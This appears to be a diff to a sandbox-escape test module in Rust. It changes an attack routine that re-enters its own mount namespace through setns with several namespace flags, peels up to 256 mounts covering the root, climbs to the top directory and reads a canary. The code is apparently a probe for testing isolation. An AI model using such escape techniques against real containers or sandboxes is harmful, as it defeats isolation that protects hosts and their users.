@@ -32,20 +32,22 @@ pub const ATTEMPT: Attempt = Attempt {
 };
 
 /// No more mounts than these lie over one another at the root.
-const MAX_COVERS: usize = 8;
+const MAX_COVERS: usize = 256;
 
 fn attack(me: &mut Attacker) -> Result<(), Failed> {
     let (_, root) = me.root()?;
     // Its own namespace by a descriptor of itself, which needs no procfs (Linux 5.8), and by the usual link.
     let handles = [me.pidfd_of_itself(), me.open("/proc/self/ns/mnt", libc::O_RDONLY)];
     let mut entered = me.gives_up("it has no handle of its own mount namespace");
-    for handle in handles {
+    // Of a process it takes kinds of namespaces, of which one may be named alone or not; of a namespace none, or its own.
+    let kinds = [[libc::CLONE_NEWNS, libc::CLONE_NEWNS | libc::CLONE_NEWUTS], [libc::CLONE_NEWNS, 0]];
+    for (handle, kinds) in handles.into_iter().zip(kinds) {
         let handle = match handle {
             Ok(handle) => handle,
             Err(Failed::Refused(_)) => continue,
             Err(other) => return Err(other),
         };
-        entered = me.setns(handle, libc::CLONE_NEWNS).map(|()| handle);
+        entered = me.with_each(kinds, |me, kinds| me.setns(handle, kinds)).map(|()| handle);
         if !matches!(entered, Err(Failed::Refused(_))) {
             break;
         }
@@ -59,6 +61,9 @@ fn attack(me: &mut Attacker) -> Result<(), Failed> {
     let mut covers = 0;
     while covers < MAX_COVERS && me.uncovers_root(handle)? {
         covers += 1;
+    }
+    if covers == MAX_COVERS {
+        return me.gives_up("there is no end to what is mounted over its root");
     }
     let top = me.climb(libc::AT_FDCWD)?;
     me.take_canary(top, &[""])
